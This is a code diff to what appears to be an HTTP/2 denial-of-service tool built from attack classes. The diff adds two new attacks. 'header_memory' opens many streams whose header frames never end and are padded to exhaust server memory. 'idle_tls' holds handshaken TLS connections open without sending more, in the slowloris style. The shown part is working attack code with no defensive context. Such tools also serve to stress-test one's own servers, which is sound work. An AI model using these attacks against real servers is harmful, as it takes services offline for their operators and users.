@@ -175,6 +175,17 @@ class header_bomb(Attack):
             self.until_closed(connection, lambda n: frame(HEADERS, 5, 2 * n + 3, block() + b"\xbe" * 16000), 1)
 
 
+class header_memory(Attack):
+    """Requests that never end, each of as many fields as are read at all, each of which costs a byte."""
+
+    def run(self):
+        with self.h2() as connection:
+            for stream in range(1, 199, 2):
+                connection.sendall(frame(HEADERS, 4, stream, block("/login", 3) + b"\x90" * 990))
+                self.count()
+            self.hold(connection)
+
+
 class zero_window(Attack):
     """A hundred answers that are never taken."""
 
@@ -305,6 +316,23 @@ class idle_connections(Attack):
             try:
                 connection = self.connect(tls=False)
                 connection.sendall(b"GET / HTTP/1.1\r\nHost: ")
+                held.append(connection)
+                self.count()
+            except OSError:
+                time.sleep(0.05)
+            if len(held) > self.options.each:
+                held.pop(0).close()
+
+
+class idle_tls(Attack):
+    """The same over TLS and HTTP/2: a connection that has shaken hands and says no more."""
+
+    def thread(self):
+        held = []
+        while not self.over():
+            try:
+                connection = self.connect()
+                connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                 held.append(connection)
                 self.count()
             except OSError:
